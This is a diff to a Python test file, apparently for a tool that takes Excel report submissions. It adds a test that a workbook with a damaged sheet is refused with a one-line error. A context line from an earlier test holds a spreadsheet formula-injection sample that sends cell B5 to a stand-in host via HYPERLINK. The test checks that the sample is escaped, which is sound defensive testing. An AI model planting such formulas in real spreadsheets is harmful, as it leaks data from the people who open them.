@@ -389,3 +389,20 @@ def test_a_note_that_looks_like_a_formula_stays_text_in_the_coordinators_files(
     assert text.decode("utf-8-sig").splitlines()[1:] == [
         '"\'=HYPERLINK(""http://x.example/?""&B5,""Xem"")",-5', "'- gạch đầu dòng,3",
     ]  # fmt: skip
+
+
+def test_a_workbook_whose_sheet_is_damaged_is_one_line(open_cycle: Cli, tmp_path: Path) -> None:
+    """Read-only openpyxl parses a sheet only when it is read: a damaged sheet inside an
+    otherwise sound file is refused in one line, not a traceback."""
+    import zipfile
+
+    data = filled(open_cycle, tmp_path, "HDND").read_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        name = next(n for n in archive.namelist() if n.startswith("xl/worksheets/")
+                    and b"<v>12</v>" in archive.read(n))  # fmt: skip
+        sheet = archive.read(name)
+    damaged = tmp_path / "BM01-HDND.xlsx"
+    damaged.write_bytes(with_part(data, name, sheet.replace(b"<v>12</v>", b"<v>abc</v>", 1)))
+    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", damaged,
+                         "--cycle", CYCLE, "--body", "HDND", "--now", NOW)  # fmt: skip
+    assert "BM01-HDND.xlsx: not a readable Excel workbook" in line
